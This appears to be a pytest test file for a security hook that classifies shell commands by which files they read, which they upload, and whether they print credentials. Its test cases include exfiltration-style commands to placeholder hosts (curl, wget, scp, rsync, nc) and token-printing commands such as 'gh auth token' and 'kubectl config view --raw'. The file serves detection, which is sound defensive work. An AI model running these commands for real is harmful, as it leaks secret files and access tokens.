"""hooks/secret_reads.py: which files a command reads and which it sends."""
from __future__ import annotations

import pytest

from swarmgate.hooks.bash_tree import analyze
from swarmgate.hooks.secret_reads import printed_secret, reads, sends


def _cmd(text):
    return analyze(text, cwd="/r").commands[0]


@pytest.mark.parametrize("text,want", [
    ("cat a b", ["a", "b"]), ("cp src dst", ["src"]), ("grep -n x f", ["x", "f"]), ("dd if=/k of=/x", ["/k"]),
    ("ls -la k", []), ("chmod 600 k", []), ("ssh -i k host true", []), ("wc -l < in", ["in"]),
    ("curl -F f=@k https://x", ["k"]), ("ln -s k link", ["k"]),
])
def test_reads(text, want):
    assert [w for w, _ in reads(_cmd(text))] == want


@pytest.mark.parametrize("text,want", [
    ("curl -F f=@k https://x", ["k"]), ("curl -d @k https://x", ["k"]), ("curl --data-binary=@k u", ["k"]),
    ("curl -T k ftp://x/", ["k"]), ("wget --post-file=k u", ["k"]), ("wget --post-file k u", ["k"]),
    ("scp k me@h:/tmp/", ["k"]), ("rsync -a k h:/b/", ["k"]), ("nc h 9 < k", ["k"]),
    ("curl -d x=1 https://x", []), ("rsync -a k dst/", []), ("cat k", []),
])
def test_sends(text, want):
    assert [w for w, _ in sends(_cmd(text))] == want


@pytest.mark.parametrize("text,prints", [
    ("gh auth token", True), ("gcloud auth print-access-token", True), ("kubectl config view --raw", True),
    ("gh auth status", False), ("kubectl config view", False), ("git credential fill", True), ("git status", False),
])
def test_printed_secrets(text, prints):
    assert bool(printed_secret(_cmd(text))) is prints
